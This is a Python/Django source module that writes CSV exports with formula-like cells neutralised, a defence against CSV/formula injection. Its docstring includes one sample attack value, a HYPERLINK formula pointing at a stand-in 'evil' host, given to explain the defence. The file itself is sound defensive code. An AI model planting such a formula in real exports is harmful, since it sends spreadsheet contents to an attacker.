"""CSV downloads that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel and LibreOffice (CSV/formula injection, OWASP): a team named
``=HYPERLINK("http://evil/?"&A1)`` would otherwise turn the organizer's spreadsheet into a
link that sends its cells away. Such a text cell gets a leading apostrophe, which the
spreadsheet shows as text. Numbers stay numbers: ``-0.5`` (a float, or a string written as a
plain decimal number) is written as is.

Every CSV export the platform builds, of every round kind, goes through ``csv_writer``: a
download built in one go is ``csv_response``, the bytes of a ZIP member (the results archive)
``csv_bytes``. ``csv_bytes_response`` serves a CSV as an attachment: one written by
``csv_writer``, or a file served as it was kept (an upload, a table the scoring library wrote).
Elsewhere in ``pwscup`` only ``pwscup/sequential/engine.py`` calls ``csv.writer``, to
rewrite a stored data table a page reads back, not an export
(``tests/pwscup/test_csv_exports.py`` keeps it so).
"""

import csv
import io
import re

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value):
    """``value`` as a CSV cell that no spreadsheet evaluates.

    >>> spreadsheet_safe('=HYPERLINK("x")')
    '\\'=HYPERLINK("x")'
    >>> spreadsheet_safe("-0.5"), spreadsheet_safe(-0.5), spreadsheet_safe("Team A")
    ('-0.5', -0.5, 'Team A')
    >>> spreadsheet_safe("-1+2")
    "'-1+2"
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SpreadsheetSafeWriter:
    """``csv.writer``'s ``writerow``/``writerows``, with every cell ``spreadsheet_safe``."""

    def __init__(self, stream, **dialect):
        self._writer = csv.writer(stream, **dialect)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **dialect) -> SpreadsheetSafeWriter:
    """The one CSV writer of every export: ``csv.writer(stream, **dialect)`` whose cells
    never run as formulas in a spreadsheet.

    >>> import io
    >>> buffer = io.StringIO()
    >>> csv_writer(buffer, lineterminator="\\n").writerows([["=1+1", -0.5, "Team A"]])
    >>> buffer.getvalue()
    "'=1+1,-0.5,Team A\\n"
    """
    return SpreadsheetSafeWriter(stream, **dialect)


def csv_response(filename: str, header: list, rows) -> HttpResponse:
    """An attachment ``filename``: ``header`` then ``rows``, every cell spreadsheet-safe."""
    response = csv_bytes_response(b"", filename)
    writer = csv_writer(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response


def csv_bytes_response(content: bytes | str, filename: str) -> HttpResponse:
    """A CSV already written (through ``csv_writer``, or a file kept as uploaded) as the
    attachment ``filename``: UTF-8, the one content type every CSV download has."""
    return _attachment(content, filename, "text/csv; charset=utf-8")


def json_text_response(content: str, filename: str) -> HttpResponse:
    """A JSON file already written (a kit's configuration, as the kit holds it) as the
    attachment ``filename``."""
    return _attachment(content, filename, "application/json")


def _attachment(content: bytes | str, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(
        content.encode() if isinstance(content, str) else content, content_type=content_type
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_bytes(header: list, rows) -> bytes:
    """``header`` then ``rows`` as UTF-8 CSV bytes (``\n`` line ends), every cell
    spreadsheet-safe: a CSV member of a ZIP (the results archive, kits)."""
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode()
